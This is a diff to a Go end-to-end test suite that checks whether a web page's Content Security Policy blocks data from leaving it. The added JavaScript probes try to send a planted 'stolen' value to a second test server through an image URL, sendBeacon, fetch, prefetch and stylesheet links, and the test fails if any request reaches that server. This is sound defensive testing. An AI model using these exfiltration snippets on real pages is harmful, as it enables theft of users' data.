@@ -2,6 +2,7 @@ package e2e_test
 
 import (
 	"net/http"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -90,6 +91,7 @@ var probes = []probe{
 			s.onopen = () => { s.close(); done("open"); }; s.onerror = () => { s.close(); done("refused"); };
 		} catch { done("refused"); }
 	})`},
+	{"fetch elsewhere", `fetch(elsewhere + "/probe-fetch", {mode: "no-cors"}).then(() => "sent", () => "refused")`},
 	{"eval", `(() => { try { return "ran: " + (0, eval)("1+1"); } catch { return "refused"; } })()`},
 	{"Function", `(() => { try { return "ran: " + new Function("return 2")(); } catch { return "refused"; } })()`},
 	{"a timer with text", `new Promise((done) => {
@@ -128,7 +130,10 @@ var pageProbes = []probe{
 		const f = document.createElement("form"); f.action = "/probe-form"; document.body.append(f); f.submit(); f.remove();
 	})`},
 	{"a preload", `(() => { const l = document.createElement("link"); l.rel = "preload"; l.as = "fetch"; l.href = "/probe-preload"; document.head.append(l); l.remove(); return "refused"; })()`},
-	{"a prefetch", `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "/probe-prefetch"; document.head.append(l); return "refused"; })()`},
+	{"a prefetch elsewhere", `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = elsewhere + "/probe-prefetch"; document.head.append(l); return "refused"; })()`},
+	{"a style sheet elsewhere", `new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onerror = () => done("refused"); l.onload = () => done("loaded"); l.href = elsewhere + "/probe-sheet.css"; document.head.append(l); })`},
+	{"an image elsewhere", `new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("refused"); i.src = elsewhere + "/probe-image?" + stolen; })`},
+	{"a beacon elsewhere", `(() => { navigator.sendBeacon(elsewhere + "/probe-beacon", stolen); return "refused"; })()`},
 	{"a base", `(() => { const b = document.createElement("base"); b.href = "https://other.example/"; document.head.append(b); const moved = !document.baseURI.startsWith(location.origin); b.remove(); return moved ? "moved" : "refused"; })()`},
 	{"sound", `new Promise((done) => { const a = new Audio("/probe-sound"); a.onerror = () => done("refused"); a.oncanplay = () => done("sent"); })`},
 	{"a font", `new FontFace("probe", "url(/probe-font)").load().then(() => "sent", () => "refused")`},
@@ -147,7 +152,10 @@ var hosts = map[string]func(*testing.T) http.Handler{
 	"without headers": func(t *testing.T) http.Handler { return drive.Plain(http.FS(files(t))) },
 }
 
-// TestPolicyHolds tries every way out, in the page and in the engine's worker.
+// TestPolicyHolds tries every way out, in the page and in the engine's worker. Two ways stay
+// open to a script that already runs in the page, and lead only to the host that it came
+// from: a style sheet and a prefetch, since style-src and worker-src say 'self'. No policy
+// stops a navigation.
 func TestPolicyHolds(t *testing.T) {
 	t.Parallel()
 	for name, handler := range hosts {
@@ -160,8 +168,10 @@ func TestPolicyHolds(t *testing.T) {
 			// holds those that it refused. What got out is in the site's log.
 			page.Expect("Content Security Policy", "violates the following", "Trusted", "/probe", "Refused", "blocked by CSP")
 			engine := page.Engine()
-			drive.Eval[any](page, `globalThis.stolen = "secret"; 1`)
-			drive.EvalIn[any](engine, `globalThis.stolen = "secret"; 1`)
+			elsewhere := drive.Serve(t, http.NotFoundHandler())
+			loot := `globalThis.stolen = "secret"; globalThis.elsewhere = ` + quoted(elsewhere.URL) + `; 1`
+			drive.Eval[any](page, loot)
+			drive.EvalIn[any](engine, loot)
 			for _, p := range append(append([]probe{}, probes...), pageProbes...) {
 				if got := drive.Eval[string](page, p.expression); got != "refused" {
 					t.Errorf("In the page, %s: %s", p.name, got)
@@ -178,6 +188,9 @@ func TestPolicyHolds(t *testing.T) {
 					t.Errorf("This reached the server: %s", request)
 				}
 			}
+			for _, request := range elsewhere.Log() {
+				t.Errorf("This reached another server: %s", request)
+			}
 			// The page still works.
 			page.PasteKey(secret)
 			page.PasteToken(hs256(t, `{"a":1}`))
@@ -193,14 +206,11 @@ func TestPlainHost(t *testing.T) {
 	page.Open()
 	page.Choose("example", "ES256")
 	page.WantVerdict(verdict{"signature": "valid"})
-	var engine []drive.Request
-	for _, r := range site.Log() {
-		if strings.Contains(r.Path, ".wasm") && r.Status == http.StatusOK {
-			engine = append(engine, r)
-		}
-	}
-	if len(engine) != 1 || !strings.HasSuffix(engine[0].Path, ".wasm.gz") {
-		t.Errorf("The engine was fetched as %v, want once, as .wasm.gz", engine)
+	packed := slices.IndexFunc(site.Log(), func(r drive.Request) bool {
+		return strings.HasSuffix(r.Path, ".wasm.gz") && r.Status == http.StatusOK && r.Encoding == ""
+	})
+	if packed < 0 {
+		t.Errorf("The engine was not fetched as .wasm.gz: %v", site.Log())
 	}
 }
 
